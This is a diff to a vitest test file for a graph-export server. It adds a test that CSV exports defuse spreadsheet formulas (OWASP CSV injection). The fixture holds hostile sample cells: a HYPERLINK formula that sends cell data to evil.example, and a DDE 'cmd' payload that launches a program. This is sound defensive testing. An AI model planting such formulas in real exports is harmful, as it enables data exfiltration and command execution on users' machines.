@@ -3,11 +3,13 @@
  * and holds exactly what the `neighborhood` and `paths` queries return; bad parameters are 400s naming the
  * parameter, unknown ids 404s; only the listed files are served, whatever the path says.
  */
+import { readFileSync } from 'node:fs';
 import { request as httpRequest } from 'node:http';
 import { parse } from 'csv-parse/sync';
 import { XMLParser, XMLValidator } from 'fast-xml-parser';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { EDGE_ATTRIBUTES, NODE_ATTRIBUTES } from '../src/export/graph-document.ts';
+import { EDGE_ATTRIBUTES, NODE_ATTRIBUTES } from '../src/export/graph-formats.js';
+import { removeEntities, validateAgainstDatabase, writeRecords } from '../src/records/write-records.ts';
 import { startTestServer, type TestServer } from './helpers.ts';
 
 let server: TestServer;
@@ -145,6 +147,47 @@ describe('GET /export/path.*', () => {
   });
 });
 
+describe('CSV exports neutralise formulas (OWASP "CSV Injection")', () => {
+  const ids = ['actor:test-x-formula', 'actor:test-x-formula-peer'];
+  /** Values a spreadsheet would run; stored as they are, past the validator, so that only the writer can defuse them. */
+  const FORMULAS = { name: '=HYPERLINK("https://evil.example/?"&A1,"open")', description: '\t=cmd|\' /C calc\'!A0', note: '+SUM(1,2)', role: '@SUM(A1)', title: '-2+3', peer: '\r=1+1' };
+
+  beforeAll(async () => {
+    await removeEntities(server.db, ids);
+    const located = (record: Record<string, unknown>, line: number) => ({ location: { file: 'test', line }, record });
+    const sourceIds = ['source:eu-kz-roadmap-2023-de'];
+    const valid = await validateAgainstDatabase(
+      server.db,
+      [located({ type: 'Actor', id: ids[0], name: 'Formula', kind: 'company', side: 'KZ', confidence: 'low', sourceIds }, 1),
+        located({ type: 'Actor', id: ids[1], name: 'Peer', kind: 'company', side: 'EU', confidence: 'low', sourceIds }, 2)],
+      [located({ type: 'MET', from: ids[0], to: ids[1], date: '2023-06', note: 'x', confidence: 'low', sourceIds }, 3)],
+    );
+    const [actor, peer] = valid.entities;
+    Object.assign(actor!.properties, { name: FORMULAS.name, description: FORMULAS.description });
+    Object.assign(peer!.properties, { name: FORMULAS.peer });
+    Object.assign(valid.relationships[0]!.properties, { note: FORMULAS.note, role: FORMULAS.role, title: FORMULAS.title });
+    await server.db.writeTransaction((tx) => writeRecords(tx, valid.entities, valid.relationships, { by: 'test' }));
+  });
+  afterAll(() => removeEntities(server.db, ids));
+
+  it('every stored formula is written with a leading single quote in nodes.csv and edges.csv, and no cell starts with one', async () => {
+    const stored = (await server.data('{ node(id: "actor:test-x-formula") { ... on Entity { name description } } }')).node;
+    expect(stored).toEqual({ name: FORMULAS.name, description: FORMULAS.description });
+
+    const nodesText = await (await get(`/export/neighborhood.nodes.csv?id=${ids[0]}`)).text();
+    const nodes = parse(nodesText, { columns: true }) as Record<string, string>[];
+    expect(nodes.map((row) => [row.id, row.name])).toEqual([[ids[0], `'${FORMULAS.name}`], [ids[1], `'${FORMULAS.peer}`]]);
+    expect(nodes[0]!.description).toBe(`'${FORMULAS.description}`);
+    const edges = parse(await (await get(`/export/neighborhood.edges.csv?id=${ids[0]}`)).text(), { columns: true }) as Record<string, string>[];
+    expect(edges.map((row) => [row.note, row.role, row.title])).toEqual([[`'${FORMULAS.note}`, `'${FORMULAS.role}`, `'${FORMULAS.title}`]]);
+    for (const row of [...nodes, ...edges]) {
+      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    }
+    const json = await (await get(`/export/neighborhood.json?id=${ids[0]}`)).json();
+    expect(json.nodes[0].name).toBe(FORMULAS.name);
+  });
+});
+
 describe('export errors', () => {
   it.each([
     ['/export/neighborhood.json', 400, 'BAD_USER_INPUT', 'id', 'Parameter "id" is required, e.g. ?id=actor:maros-sefcovic.'],
@@ -233,15 +276,24 @@ describe('the explorer files', () => {
 
   it.each([
     ['/explore/explorer.js', 'text/javascript; charset=utf-8', "import cytoscape from './vendor/cytoscape.esm.min.mjs';"],
-    ['/explore/graph-formats.js', 'text/javascript; charset=utf-8', 'export function writeGraphml(graph) {'],
+    ['/explore/graph-formats.js', 'text/javascript; charset=utf-8', 'export function writeGraphml(document) {'],
     ['/explore/explorer.css', 'text/css; charset=utf-8', ':root {'],
     ['/explore/vendor/cytoscape.esm.min.mjs', 'text/javascript; charset=utf-8', 'export{'],
+    ['/explore/vendor/layout-base.js', 'text/javascript; charset=utf-8', 'root["layoutBase"] = factory();'],
+    ['/explore/vendor/cose-base.js', 'text/javascript; charset=utf-8', 'root["coseBase"] = factory(root["layoutBase"]);'],
+    ['/explore/vendor/cytoscape-fcose.js', 'text/javascript; charset=utf-8', 'root["cytoscapeFcose"] = factory(root["coseBase"]);'],
   ])('%s is served as %s', async (path, contentType, content) => {
     const response = await get(path);
     expect(response.status).toBe(200);
     expect(response.headers.get('content-type')).toBe(contentType);
     expect(response.headers.get('x-content-type-options')).toBe('nosniff');
     expect(await response.text()).toContain(content);
+  });
+
+  it('/explore/graph-formats.js is the very module the server exports with (one copy of the formats)', async () => {
+    const served = await (await get('/explore/graph-formats.js')).text();
+    expect(served).toBe(readFileSync(new URL('../src/export/graph-formats.js', import.meta.url), 'utf8'));
+    expect(served).not.toMatch(/^import /m);
   });
 
   it.each([
